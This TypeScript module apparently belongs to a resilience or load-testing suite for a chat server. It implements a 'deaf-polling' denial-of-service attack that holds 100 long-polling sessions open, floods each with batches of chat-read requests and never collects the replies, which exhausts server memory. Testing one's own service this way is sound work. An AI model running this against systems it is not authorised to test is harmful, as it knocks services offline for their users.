/** Sessions of long-polling that ask and never poll for the answers. */
import type { Attack } from '../attack.ts';
import { agentOf } from '../connections.ts';
import { keepDoing } from '../keep-doing.ts';
import { newSecret } from '../player.ts';
import { prepareChat } from '../prepare-chat.ts';
import { connectPacketOf, openPolling } from '../raw-guest.ts';
import { createTally } from '../tally.ts';

const guests = 100;
const perPost = 25;

export const deafPolling: Attack = {
  name: 'deaf-polling',
  what: `${guests} polling sessions at a time that ask for a long chat and never poll`,
  async attack(target, until) {
    const tally = createTally();
    const agent = agentOf(target, guests);
    const { roomId } = await prepareChat(target);
    const questions = Array.from(
      { length: perPost },
      (_, id) => `42${id}["chat:read",{"roomId":"${roomId}"}]`,
    );
    await keepDoing({
      ...{ until, tally, workers: guests },
      async work() {
        const guest = await openPolling(target.url, agent).catch(() => null);
        if (guest === null) return tally.count('refused');
        tally.count('sessions');
        let status = await guest.post(connectPacketOf(newSecret()));
        while (status === 200 && !until.aborted) {
          status = await guest.post('3', ...questions);
          tally.count('packets', perPost);
        }
      },
    });
    return `${tally}`;
  },
};
